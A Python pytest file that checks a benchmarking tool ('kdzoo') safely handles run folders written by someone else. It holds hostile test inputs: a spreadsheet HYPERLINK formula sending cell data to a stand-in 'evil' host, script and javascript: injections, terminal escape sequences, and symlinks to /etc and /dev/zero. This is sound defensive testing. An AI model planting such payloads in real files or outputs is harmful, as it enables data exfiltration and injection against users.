"""A bench's folder that somebody else has written to: its tables are made, nothing in them acts, nothing outside is touched."""

import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

BENCH = Path(__file__).resolve().parent.parent.parent / "results/digits"
EVIL = {
    "formula": '=HYPERLINK("http://evil/?"&A1,"click")',
    "html": "<script>alert(1)</script>",
    "escape": "a\x1b]0;owned\x07\x1b[2J\u202eb",
    "lines": "a\n\n# heading\n| x | y |",
    "link": "![x](http://evil/p.png) [y](javascript:alert(1))",
    "markup": "[bold]x[/bold][/nope]",
    "long": "x" * 1_000_000,
}


@pytest.fixture
def bench(place: Path) -> Path:
    """A copy of some runs of a committed bench."""
    for path in sorted((BENCH / "runs").iterdir())[::3]:
        shutil.copytree(path, place / "results/digits/runs" / path.name)
    return place / "results/digits"


def change(bench: Path, **about: str) -> None:
    for path in (bench / "runs").iterdir():
        record = json.loads((path / "run.json").read_text())
        record["about"].update(about)
        (path / "run.json").write_text(json.dumps(record))


@pytest.mark.parametrize("kind", EVIL)
def test_nothing_in_a_strangers_name_acts_in_a_table_a_page_or_a_terminal(kdzoo: Callable, bench: Path, kind: str) -> None:
    change(bench, pair=EVIL[kind])
    first = sorted((bench / "runs").iterdir())[0]
    (first / "result.json").unlink()
    (first / "error.txt").write_text(f"Traceback\nValueError: {EVIL[kind]}\n")
    for words in (["leaderboard", bench], ["status", bench], ["leaderboard", bench, "--format", "md"], ["compare", bench, bench]):
        printed = kdzoo(*words)
        assert printed.status == 0, printed.err
        assert not set(printed.out + printed.err) & set("\x1b\x07\u202e")
    for table in ("runs.csv", "leaderboard.csv"):
        text = (bench / table).read_text()
        assert "\x1b" not in text
        assert not any(cell.startswith(("=", "@", '"=')) for line in text.splitlines() for cell in line.split(","))
    page = (bench / "leaderboard.md").read_text()
    assert "<script" not in page
    assert "\n# heading" not in page
    assert "](http" not in page.replace("\\](http", "")
    assert len(page) < 200_000


def _pipe(path: Path) -> None:
    path.unlink()
    os.mkfifo(path)


def _device(path: Path) -> None:
    path.unlink()
    path.symlink_to("/dev/zero")


def _folder(path: Path) -> None:
    path.unlink()
    path.mkdir()


def _nested(path: Path) -> None:
    path.write_text("[" * 200_000)


@pytest.mark.parametrize("name", ["result.json", "run.json"])
@pytest.mark.parametrize("act", [_pipe, _device, _folder, _nested])
def test_a_file_that_is_none_or_never_ends_is_told_and_the_rest_is_shown(
    kdzoo: Callable, bench: Path, name: str, act: Callable[[Path], None]
) -> None:
    runs = sorted((bench / "runs").iterdir())
    act(runs[0] / name)
    for verb in ("leaderboard", "status"):
        printed = kdzoo(verb, bench)
        assert printed.status == 0, printed.err
        assert runs[0].name in (printed.out + printed.err).replace("\n", ""), "a path that is longer than a line is broken"
    assert len((bench / "runs.csv").read_text().splitlines()) >= len(runs) - 1


def test_a_link_beside_the_metrics_is_not_written_through(bench: Path, place: Path) -> None:
    from kdzoo.runs.metrics_file import JsonLines

    (place / "precious").write_text("mine")
    run = sorted((bench / "runs").iterdir())[0]
    for name in ("metrics.partial", "metrics.jsonl"):
        (run / name).unlink(missing_ok=True)
        (run / name).symlink_to(place / "precious")
    JsonLines(run / "metrics.jsonl", run.name, keep_through_step=0).close()
    assert (place / "precious").read_text() == "mine"
    assert not (run / "metrics.jsonl").is_symlink()


def test_links_among_the_runs_lead_nowhere(kdzoo: Callable, bench: Path) -> None:
    (bench / "runs/loop").symlink_to(bench / "runs")
    (bench / "runs/etc").symlink_to("/etc")
    for verb in ("leaderboard", "status"):
        assert kdzoo(verb, bench).status == 0
